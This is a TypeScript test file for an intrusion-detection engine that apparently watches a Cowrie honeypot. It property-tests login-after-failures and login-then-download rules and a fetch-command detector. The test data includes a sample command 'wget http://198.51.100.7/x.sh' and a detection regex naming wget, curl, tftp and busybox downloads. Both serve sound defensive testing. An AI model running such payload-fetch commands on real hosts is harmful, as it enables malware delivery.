// The two rules about sequences (failures then a login; a login then a download) walk their windows with pointers that
// only move forward. Here they are checked against their definitions, written the direct way, on random histories:
// ties, successes without enough failures, triggers anywhere, downloads outside the window, events out of order, and
// thresholds and windows other than the defaults.
import { describe, expect, it } from "vitest";
import { detectionConfigSchema } from "../config/detectorConfig.ts";
import type { SecurityEvent } from "../events/securityEvent.ts";
import type { Detection, RuleInput } from "./detectionRule.ts";
import { loginAfterFailuresRule } from "./loginAfterFailuresRule.ts";
import { isToolDownload, toolDownloadRule } from "./toolDownloadRule.ts";

/** The defaults, then other thresholds and windows (as a MiniXdr may set them), so the rules read theirs from config. */
function configFor(seed: number) {
  if (seed % 4 === 0) return detectionConfigSchema.parse({});
  return detectionConfigSchema.parse({
    loginAfterFailures: { failures: 1 + (seed % 5), windowSeconds: [300, 900, 1800][seed % 3] },
    toolDownload: { windowSeconds: [600, 1800, 7200][seed % 3] },
  });
}

/** Failures within the window before a success (at most `windowSeconds` earlier, same time included), one a trigger. */
function loginAfterFailuresByDefinition({ triggers, events, config }: RuleInput): string[] {
  const windowMs = config.loginAfterFailures.windowSeconds * 1000;
  const triggerIds = new Set(triggers.map((t) => t.id));
  const failures = events.filter((e) => e.kind === "auth.failure");
  const evidence = new Map<string, SecurityEvent>();
  for (const success of events.filter((e) => e.kind === "auth.success")) {
    const before = failures.filter((f) => f.time <= success.time && f.time >= success.time - windowMs);
    if (before.length < config.loginAfterFailures.failures) continue;
    if (!triggerIds.has(success.id) && !before.some((f) => triggerIds.has(f.id))) continue;
    for (const e of [...before, success]) evidence.set(e.id, e);
  }
  return [...evidence.values()].sort((a, b) => a.time - b.time).map((e) => e.id);
}

/** Each download with the latest login at most the window before it, one of the two a trigger (events taken oldest first, as RuleInput has them). */
function toolDownloadByDefinition({ triggers, events: given, config }: RuleInput): string[] {
  const windowMs = config.toolDownload.windowSeconds * 1000;
  const events = [...given].sort((a, b) => a.time - b.time);
  const triggerIds = new Set(triggers.map((t) => t.id));
  const logins = events.filter((e) => e.kind === "auth.success");
  const evidence = new Map<string, SecurityEvent>();
  for (const download of events.filter(isToolDownload)) {
    const login = logins.filter((l) => l.time <= download.time && download.time - l.time <= windowMs).at(-1);
    if (!login || (!triggerIds.has(download.id) && !triggerIds.has(login.id))) continue;
    evidence.set(login.id, login);
    evidence.set(download.id, download);
  }
  return [...evidence.values()].sort((a, b) => a.time - b.time).map((e) => e.id);
}

/** A small deterministic generator, so a failure names a reproducible seed. */
function random(seed: number): () => number {
  let s = seed >>> 0;
  return () => {
    s = (Math.imul(s ^ (s >>> 15), 0x2c1b3c6d) + 0x6d2b79f5) >>> 0;
    return s / 2 ** 32;
  };
}

function history(seed: number): { events: SecurityEvent[]; triggers: SecurityEvent[] } {
  const next = random(seed);
  const n = 1 + Math.floor(next() * 60);
  const kinds: { kind: SecurityEvent["kind"]; command?: string }[] = [
    { kind: "auth.failure" }, { kind: "auth.failure" }, { kind: "auth.failure" }, { kind: "auth.success" },
    { kind: "file.download" }, { kind: "command", command: "wget http://198.51.100.7/x.sh" }, { kind: "command", command: "uname -a" },
  ];
  // Times on a coarse grid (ties are common) spanning more than either rule's window.
  const events = Array.from({ length: n }, (_, i): SecurityEvent => {
    const { kind, command } = kinds[Math.floor(next() * kinds.length)]!;
    return {
      tenant: "default", id: `e${i}`, source: "cowrie", kind, sourceType: kind, time: Math.floor(next() * 30) * 150_000, receivedAt: 0,
      sourceIp: "203.0.113.5", actor: "", username: "root", ...(command ? { command } : {}),
    };
  });
  const sorted = [...events].sort((a, b) => a.time - b.time);
  const triggers = events.filter(() => next() < 0.3);
  // Mostly oldest first, as the engine gives them; sometimes in arrival order, as a direct caller might.
  return { events: next() < 0.8 ? sorted : events, triggers };
}

const ids = (detections: Detection[]) => detections.flatMap((d) => d.events.map((e) => e.id));

describe("sequence rules against their definitions", () => {
  it.each([
    { rule: loginAfterFailuresRule, definition: loginAfterFailuresByDefinition },
    { rule: toolDownloadRule, definition: toolDownloadByDefinition },
  ])("$rule.name finds the same evidence on 2,000 random histories", ({ rule, definition }) => {
    let detected = 0;
    for (let seed = 1; seed <= 2000; seed++) {
      const { events, triggers } = history(seed);
      const input: RuleInput = { tenant: "default", sourceIp: "203.0.113.5", triggers, events, config: configFor(seed) };
      const expected = definition(input);
      expect({ seed, ids: ids(rule.detect(input)) }).toEqual({ seed, ids: expected });
      if (expected.length > 0) detected++;
    }
    // The histories exercise both outcomes.
    expect(detected).toBeGreaterThan(200);
    expect(detected).toBeLessThan(1800);
  });
});

describe("login-after-failures summary", () => {
  it("counts the failures its evidence holds, however many successes there are", () => {
    let checked = 0;
    for (let seed = 1; seed <= 500; seed++) {
      const { events, triggers } = history(seed);
      for (const d of loginAfterFailuresRule.detect({ tenant: "default", sourceIp: "203.0.113.5", triggers, events, config: configFor(seed) })) {
        const failures = d.events.filter((e) => e.kind === "auth.failure").length;
        expect({ seed, summary: d.summary }).toEqual({ seed, summary: expect.stringMatching(new RegExp(` after ${failures} failures$`)) as string });
        if (d.events.filter((e) => e.kind === "auth.success").length > 1) checked++;
      }
    }
    // Detections with several successes (where counting them as failures went wrong) are among those checked.
    expect(checked).toBeGreaterThan(20);
  });
});

describe("fetch commands", () => {
  /** The one-regex definition the rule had: a tool word, then on the same line a URL or an IPv4 address. */
  const byDefinition = /\b(wget|curl|tftp|ftpget|busybox\s+(wget|tftp))\b.*\b((https?|ftp|tftp):\/\/|\d{1,3}(\.\d{1,3}){3})/i;

  it("are what the one-regex definition says, on 5,000 random commands", () => {
    const pieces = ["wget", "WGET", "curl", "tftp", "ftpget", "busybox", " ", "  ", "\t", "\n", "\r", "x", "-O", "http://", "https://", "ftp://", "tftp://",
      "198.51.100.7", "1.2.3", ".4", "wgetx", "xcurl", "/", ":", "busybox wget", "busybox\ttftp", "\u2028", "ok"];
    let fetches = 0;
    for (let seed = 1; seed <= 5000; seed++) {
      const next = random(seed);
      const command = Array.from({ length: 1 + Math.floor(next() * 12) }, () => pieces[Math.floor(next() * pieces.length)]!).join("");
      const expected = byDefinition.test(command);
      expect({ command, fetch: isToolDownload({ kind: "command", command } as SecurityEvent) }).toEqual({ command, fetch: expected });
      if (expected) fetches++;
    }
    expect(fetches).toBeGreaterThan(300);
    expect(fetches).toBeLessThan(4700);
  });

  it("are judged in one pass over the command: 400 KB of repeated wget (typed into the honeypot) held the event loop for most of a minute", () => {
    const command = "wget ".repeat(80_000);
    expect(isToolDownload({ kind: "command", command } as SecurityEvent)).toBe(false);
    expect(isToolDownload({ kind: "command", command: `${command}http://198.51.100.7/x` } as SecurityEvent)).toBe(true);
  });
});

describe("sequence rules' history bounds", () => {
  // The engine reads a source's history before its triggers only as far back as `historyFrom` says, judged from the
  // events since the oldest trigger: over any history, what the rule detects must not change when everything before
  // that is cut off.
  it.each([{ rule: loginAfterFailuresRule }, { rule: toolDownloadRule }])("$rule.name detects the same from where historyFrom says, on 2,000 random histories", ({ rule }) => {
    let cut = 0;
    let needed = 0;
    for (let seed = 1; seed <= 2000; seed++) {
      const { events, triggers } = history(seed);
      if (triggers.length === 0) continue;
      const config = configFor(seed);
      const sorted = [...events].sort((a, b) => a.time - b.time);
      const oldest = Math.min(...triggers.map((t) => t.time));
      const windowMs = rule.windowMs(config);
      const from = Math.max(oldest - windowMs, Math.min(oldest, rule.historyFrom!({ tenant: "default", sourceIp: "203.0.113.5", triggers, events: sorted.filter((e) => e.time >= oldest), config })));
      const whole: RuleInput = { tenant: "default", sourceIp: "203.0.113.5", triggers, events: sorted.filter((e) => e.time >= oldest - windowMs), config };
      const bounded: RuleInput = { ...whole, events: sorted.filter((e) => e.time >= from) };
      expect({ seed, ids: ids(rule.detect(bounded)) }).toEqual({ seed, ids: ids(rule.detect(whole)) });
      if (whole.events.length > bounded.events.length) cut++;
      if (from < oldest) needed++;
    }
    // Both cases are exercised: history left unread, and history read because a detection can need it.
    expect(cut).toBeGreaterThan(200);
    expect(needed).toBeGreaterThan(200);
  });
});
